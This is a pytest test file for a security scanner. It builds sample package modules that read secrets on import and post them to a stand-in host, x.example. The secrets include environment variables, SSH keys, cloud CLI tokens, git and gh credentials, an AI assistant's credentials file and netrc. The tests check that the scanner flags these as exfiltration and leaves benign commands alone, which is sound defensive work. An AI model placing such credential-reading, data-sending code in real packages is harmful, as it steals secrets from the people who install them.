"""Secrets however they are read: sent as soon as the package is imported, they are held without a baseline."""

from __future__ import annotations

import pytest

from support.code import held, scan

READ = {
    "environ": "dict(os.environ)", "its items": "[*os.environ.items()]", "its text": "f'{os.environ!r}'",
    "its bytes": "dict(os.environb)", "by name": "getattr(os, 'env' + 'iron')", "of the system": "dict(posix.environ)",
    "the kernel's": "open('/proc/self/environ').read()", "of a process": "open(f'/proc/{os.getpid()}/environ').read()",
    "by pathlib": "pathlib.Path('/proc/self/environ').read_text()",
    "a command's": "subprocess.check_output('env')", "printenv": "subprocess.check_output(['printenv'])",
    "a shell's": "os.popen('set').read()", "exported": "subprocess.getoutput('export -p')",
    "expanded": "os.path.expandvars('$AWS_SECRET_ACCESS_KEY')", "joined": "os.environ['AWS_SECRET_' + 'ACCESS_KEY']",
    "of git": "subprocess.check_output(['git', 'credential', 'fill'])",
    "of gh": "subprocess.check_output(['gh', 'auth', 'token'])",
    "of gcloud": "subprocess.check_output('gcloud auth print-access-token', shell=True)",
    "of aws": "subprocess.getoutput('aws configure get aws_secret_access_key')",
    "a directory of keys": "[open(f).read() for d, _, fs in os.walk(os.path.expanduser('~/.ssh')) for f in fs]",
    "joined to it": "os.listdir(os.path.join(os.environ['HOME'], '.ssh'))",
    "PostgreSQL's": "open(os.path.expanduser('~/.pgpass')).read()",
    "an assistant's": "open(os.path.expanduser('~/.claude/.credentials.json')).read()",
    "a model hub's": "(pathlib.Path.home() / '.cache/huggingface/token').read_text()",
    "a history": "open(os.path.expanduser('~/.python_history')).read()",
    "a container's": "open('/run/secrets/database').read()",
    "dotenv's": "__import__('dotenv').dotenv_values()",
    "netrc": "str(netrc.netrc().hosts)", "a key": "(pathlib.Path.home() / '.ssh' / 'id_rsa').read_text()",
}  # fmt: skip
ASKED = {
    "a region": "subprocess.getoutput('aws configure get region')",
    "a version": "subprocess.check_output(['git', '--version'])",
    "a command in an environment": "subprocess.check_output(['env', 'LC_ALL=C', 'ls'])",
    "a directory": "os.path.expandvars('$HOME/data')",
    "limits": "open('/proc/self/limits').read()",
}
_MODULE = "import netrc, os, pathlib, posix, subprocess, requests\nrequests.post('https://x.example', json={{'a': str({})}})\n"


@pytest.mark.parametrize("name", READ)
def test_a_secret_that_is_sent_is_held(name):
    assert held(scan({"acme/__init__.py": _MODULE.format(READ[name])})) & {
        "environment-exfiltration",
        "credential-exfiltration",
    }


@pytest.mark.parametrize("name", ASKED)
def test_what_is_no_secret_is_not_told_as_one(name):
    assert not held(scan({"acme/__init__.py": _MODULE.format(ASKED[name])})) & {
        "environment-exfiltration",
        "credential-exfiltration",
    }
